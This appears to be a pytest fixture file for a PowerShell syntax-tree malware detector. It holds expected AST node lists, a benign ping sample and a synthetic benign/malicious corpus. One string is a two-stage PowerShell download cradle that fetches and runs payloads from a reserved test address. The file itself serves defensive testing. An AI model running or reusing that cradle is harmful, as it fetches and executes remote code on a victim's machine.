import pytest

from astshield.synth import GeneratorSpec, generate

# A cryptojacking-style two-statement dropper: an in-memory download cradle
# followed by an installer call.  All endpoints are reserved test addresses.
CRADLE_SRC = (
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10:13405/stage1.png'); "
    "MsiMake http://203.0.113.10:13405/stage2.png"
)

# pre-order (kind, depth) golden for CRADLE_SRC
CRADLE_KINDS_DEPTHS = [
    ("PipelineAst", 0),
    ("CommandAst", 1),
    ("CmdletAst", 2),
    ("MethodInvocationAst", 2),
    ("TypeNameAst", 3),
    ("MethodNameAst", 3),
    ("ArgumentAst", 3),
    ("StringLiteralAst", 4),
    ("PipelineAst", 0),
    ("CommandAst", 1),
    ("CmdletAst", 2),
    ("ArgumentAst", 2),
]

PING_SRC = "ping -c 4 -t 64 uc.edu"

PING_COMMAND_KINDS = [
    "CmdletAst",
    "CommandParameterAst",
    "ArgumentAst",
    "CommandParameterAst",
    "ArgumentAst",
    "ArgumentAst",
]


@pytest.fixture(scope="session")
def tiny_corpus():
    """Seeded 40-script synthetic corpus (20 benign / 20 malicious)."""
    return generate(GeneratorSpec(seed=7, n_benign=20, n_malicious=20, obfuscation=0.5))
